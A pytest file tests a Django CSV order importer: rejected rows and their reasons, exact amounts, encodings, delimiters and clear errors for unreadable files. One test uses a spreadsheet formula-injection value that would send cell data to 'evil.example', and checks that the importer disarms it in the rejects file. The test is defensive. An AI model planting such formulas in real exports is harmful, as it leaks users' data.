"""Bad input: a clear error, or a rejected row each, and the good rows land."""

import pytest
from django.core.management import CommandError, call_command

from orders.importing import ImportFailed, import_facts
from orders.importing.rejects import Reason
from orders.models import ImportRun, Order, OrderLine
from tests.orders.conftest import HEADER

pytestmark = pytest.mark.django_db

GOOD = "A,good,confirmed,2026-03-01 10:00,2026-03-03 10:00,129.00"


def reasons(path):
    result = import_facts("generic", path)
    assert Order.objects.filter(external_id="good").count() == 1, "the good row lands"
    return dict(result.rejects)


@pytest.mark.parametrize(
    ("row", "column", "value", "reason"),
    [
        ("A,1,confirmed,yesterday,,1", "placed_at", "yesterday", Reason.WRONG_DATE),
        ("A,1,confirmed,2026-02-30,,1", "placed_at", "2026-02-30", Reason.WRONG_DATE),
        ("A,1,confirmed,0000-01-01,,1", "placed_at", "0000-01-01", Reason.WRONG_DATE),
        ("A,1,confirmed,0001-01-01,,1", "placed_at", "0001-01-01", Reason.DATE_OUT_OF_RANGE),
        ("A,1,confirmed,9999-12-31 23:59-12:00,,1", "placed_at", "9999-12-31 23:59-12:00", Reason.DATE_OUT_OF_RANGE),
        ("A,1,confirmed,,,1", "placed_at", "", Reason.MISSING_VALUE),
        ("A,,confirmed,2026-03-01,,1", "order", "", Reason.MISSING_VALUE),
        ("A,1,confirmed,2026-03-01,,", "amount", "", Reason.MISSING_VALUE),
        ("A,1,confirmed,2026-03-01,,-5.00", "amount", "'-5.00", Reason.NEGATIVE_AMOUNT),
        ('A,1,confirmed,2026-03-01,,"1.234,56"', "amount", "1.234,56", Reason.WRONG_AMOUNT),
        ('A,1,confirmed,2026-03-01,,"1,234.56"', "amount", "1,234.56", Reason.WRONG_AMOUNT),
        ("A,1,confirmed,2026-03-01,,NaN", "amount", "NaN", Reason.WRONG_AMOUNT),
        ("A,1,confirmed,2026-03-01,,inf", "amount", "inf", Reason.WRONG_AMOUNT),
        ("A,1,confirmed,2026-03-01,,1e5", "amount", "1e5", Reason.WRONG_AMOUNT),
        ("A,1,confirmed,2026-03-01,,¥5", "amount", "¥5", Reason.WRONG_AMOUNT),
        ("A,1,confirmed,2026-03-01,,１２", "amount", "１２", Reason.WRONG_AMOUNT),
        ("A,1,confirmed,2026-03-01,,1.005", "amount", "1.005", Reason.TOO_MANY_DECIMALS),
        (f"A,1,confirmed,2026-03-01,,{'9' * 30}", "amount", "9" * 30, Reason.AMOUNT_TOO_LARGE),
        ("A,1,vanished,2026-03-01,,1", "state", "vanished", Reason.UNKNOWN_VALUE),
        (f"A,{'x' * 65},confirmed,2026-03-01,,1", "order", "x" * 65, Reason.TOO_LONG),
        ("A,a\0b,confirmed,2026-03-01,,1", "order", "a␀b", Reason.BAD_CHARACTER),
        ("A,1,confirmed,2026-03-01", "", "A,1,confirmed,2026-03-01", Reason.WRONG_WIDTH),
        ("A,1,confirmed,2026-03-01,,1,more", "", "A,1,confirmed,2026-03-01,,1,more", Reason.WRONG_WIDTH),
    ],
)  # fmt: skip
def test_a_bad_row_is_rejected_with_place_value_and_reason(orders_file, rejected, row, column, value, reason):
    result = import_facts("generic", orders_file(row, GOOD))
    assert [order.external_id for order in Order.objects.all()] == ["good"]
    assert rejected(result.rejects_path) == [("orders.csv", 2, column, value, reason.label)]
    assert result.rejects == {reason.value: 1}


def test_amounts_are_exact(orders_file):
    amounts = {
        "0": 0,
        "-0.00": 0,
        "7": 700,
        "7.5": 750,
        "0.01": 1,
        "19.90": 1_990,
        "0019.900": 1_990,
        "99999999.99": 9_999_999_999,
    }
    rows = [f"A,{text},confirmed,2026-03-01,,{text}" for text in amounts]
    import_facts("generic", orders_file(*rows))
    assert dict(Order.objects.values_list("external_id", "amount")) == amounts


def test_the_second_of_two_equal_orders_is_rejected(orders_file, rejected):
    result = import_facts("generic", orders_file(GOOD, GOOD.replace("129", "1"), GOOD.replace("A,", "B,")))
    assert sorted(Order.objects.values_list("merchant__external_id", "amount")) == [("A", 12_900), ("B", 12_900)]
    assert rejected(result.rejects_path) == [("orders.csv", 3, "merchant order", "A good", Reason.DUPLICATE.label)]


def test_an_order_one_of_whose_lines_is_rejected_keeps_no_half_of_them(orders_file):
    lines = "merchant,order,number,unit_price\nA,good,1,1\nA,bad,1,1\nA,bad,2,-1\nA,bad,3,1\n"
    path = orders_file(GOOD, GOOD.replace("good", "bad"), lines=lines)
    assert reasons(path) == {"negative_amount": 1, "incomplete": 2}
    assert [line.order.external_id for line in OrderLine.objects.all()] == ["good"]


def test_a_bom_and_blank_lines_are_passed_over(folder):
    text = f"\ufeff{HEADER}\n\n{GOOD}\n\n\n"
    assert reasons(folder(orders=text, merchants="\ufeffmerchant,shop_name\nA,Alpha\n")) == {}


def test_utf_16_with_its_mark_is_read(folder):
    text = f"{HEADER}\r\n{GOOD}\r\n".encode("utf-16")
    assert reasons(folder(orders=text, merchants="merchant,shop_name\nA,Alpha\n")) == {}


def test_latin_1_is_refused_or_read_when_said(folder):
    rows = f"{HEADER},region\n{GOOD},São José\n"
    path = folder(orders=rows.encode("latin-1"), merchants="merchant,shop_name\nA,Alpha\n")
    with pytest.raises(ImportFailed, match="--encoding"):
        import_facts("olist", _as_olist(path, rows))
    import_facts("generic", path, encoding="latin-1")
    assert Order.objects.get().region == "São José"
    with pytest.raises(ImportFailed, match="no encoding klingon"):
        import_facts("generic", path, encoding="klingon")


def _as_olist(path, text):
    """A folder for a mapping that reads UTF-8 only."""
    (path / "olist_orders_dataset.csv").write_bytes(text.encode("latin-1"))
    return path


def test_quotation_marks_gone_wrong_cost_their_rows_only(orders_file):
    path = orders_file('A,"x"y,confirmed,2026-03-01,,1', GOOD, 'A,"1,confirmed,2026-03-01,,1')
    assert reasons(path) == {"bad_quotes": 1, "open_quote": 1}


def test_fields_over_several_lines_keep_the_line_numbers_right(orders_file, rejected):
    result = import_facts("generic", orders_file('A,"two\nlines",confirmed,2026-03-01,,1', "A,3,confirmed,?,,1"))
    assert rejected(result.rejects_path)[0][:3] == ("orders.csv", 4, "placed_at")
    assert Order.objects.get().external_id == "two\nlines"


def test_five_megabytes_in_one_field_are_too_long(orders_file):
    path = orders_file(GOOD, f"A,{'x' * 5_000_000},confirmed,2026-03-01,,1")
    assert reasons(path) == {"too_long": 1}


def test_tabs_newlines_and_backslashes_arrive_as_they_are(orders_file):
    import_facts("generic", orders_file(GOOD + ',"\\N\tx\\.\ny"', header=HEADER + ",region"))
    assert Order.objects.get().region == "\\N\tx\\.\ny"


def test_a_currency_must_exist_and_have_the_same_decimals(orders_file, rejected):
    rows = [f"A,{code},confirmed,2026-03-01,,1,{code}" for code in ("cny", "USD", "JPY", "XXZ")]
    result = import_facts("generic", orders_file(*rows, header=HEADER + ",currency"))
    assert dict(Order.objects.values_list("external_id", "currency")) == {"cny": "CNY", "USD": "USD"}
    assert [row[3] for row in rejected(result.rejects_path)] == ["JPY", "XXZ"]


@pytest.mark.parametrize(
    ("content", "complaint"),
    [
        ("", "orders.csv is empty"),
        ("\ufeff\n\n", "orders.csv is empty"),
        ("merchant,order,state,placed_at\nA,1,x,y\n", "orders.csv has no column amount. It has: merchant, order"),
        ("merchant;order;state;placed_at;amount\nA;1;x;y;1\n", "seems to be separated by ';', not by ','"),
        ("merchant\torder\tstate\tplaced_at\tamount\nA\t1\tx\ty\t1\n", "--delimiter"),
        ("merchant,order,Order,placed_at,amount\nA,1,1,2026-03-01,1\n", "has the column order twice"),
    ],
    ids=["0 bytes", "only a BOM", "missing column", "semicolons", "tabs", "twice"],
)
def test_a_file_that_cannot_be_read_stops_the_import_with_a_clear_error(folder, content, complaint):
    path = folder(orders=content, merchants="merchant,shop_name\nA,Alpha\n")
    with pytest.raises(CommandError) as caught:
        call_command("import_orders", str(path), mapping="generic")
    assert complaint in str(caught.value)
    assert not Order.objects.exists()
    assert not ImportRun.objects.exclude(state="failed").exists()


def test_another_delimiter_is_read_when_said(folder):
    path = folder(orders=f"{HEADER}\n{GOOD}\n".replace(",", ";"), merchants="merchant;shop_name\nA;Alpha\n")
    call_command("import_orders", str(path), mapping="generic", delimiter=";")
    assert Order.objects.get().external_id == "good"


def test_missing_files_are_named(tmp_path):
    with pytest.raises(ImportFailed, match=r"There is no file .*orders\.csv"):
        import_facts("generic", tmp_path)
    with pytest.raises(ImportFailed, match=r"There is no file .*gone\.csv"):
        import_facts("generic", tmp_path / "gone.csv")
    (tmp_path / "one.csv").write_text("x")
    with pytest.raises(ImportFailed, match="give the folder"):
        import_facts("olist", tmp_path / "one.csv")


def test_values_that_a_spreadsheet_would_run_are_disarmed_in_the_rejects(orders_file, rejected):
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    cell = '"' + formula.replace('"', '""') + '"'
    result = import_facts("generic", orders_file(f"A,1,{cell},2026-03-01,,1", GOOD))
    assert rejected(result.rejects_path)[0][3] == f"'{formula}"


def test_rejects_cannot_go_to_a_folder(orders_file, tmp_path):
    with pytest.raises(CommandError, match=r"is a folder\. Name a file in it, such as .*/out/rejects\.csv"):
        (tmp_path / "out").mkdir()
        call_command("import_orders", str(orders_file(GOOD)), mapping="generic", rejects=tmp_path / "out")
    assert not ImportRun.objects.exists()


def test_rejects_cannot_go_where_nothing_can_be_written(orders_file, tmp_path, monkeypatch):
    (tmp_path / "file").write_text("")
    for path, why in (
        (tmp_path / "file" / "rejects.csv", "is not a folder"),
        (tmp_path / ("x" * 300), "File name too long"),
    ):
        with pytest.raises(CommandError, match=f"{why}.*Name another file with --rejects"):
            call_command("import_orders", str(orders_file(GOOD, "A,1,?,,,")), mapping="generic", rejects=path)
    monkeypatch.setattr("os.access", lambda *arguments: False)  # root may write everywhere
    with pytest.raises(CommandError, match="no permission to write to"):
        call_command("import_orders", str(orders_file(GOOD)), mapping="generic", rejects=tmp_path / "a" / "b.csv")
    assert not Order.objects.exists()
